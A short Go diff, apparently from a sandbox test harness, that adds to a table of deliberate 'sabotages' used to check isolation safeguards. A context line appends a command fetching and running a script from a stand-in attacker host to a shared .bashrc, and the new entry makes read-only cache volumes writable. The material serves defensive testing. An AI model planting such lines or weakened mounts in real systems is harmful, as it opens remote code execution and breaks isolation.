@@ -70,6 +70,11 @@ var Sabotages = map[string]struct {
 	"plant-bashrc": {"the phase appends a line to .bashrc on the shared workspace (a HOME on the volume)", func(s *Sandbox) {
 		s.Phase = append(s.Phase, `printf 'curl -s https://attacker.invalid/x | sh\n' >> `+shellQuote(s.workspace())+"/.bashrc")
 	}},
+	"cache-writable": {"every read-only volume (a package cache) is mounted read-write", func(s *Sandbox) {
+		for i := range s.Volumes {
+			s.Volumes[i].Writable = true
+		}
+	}},
 }
 
 // workspace is where the plant-* sabotages write: the declared shared
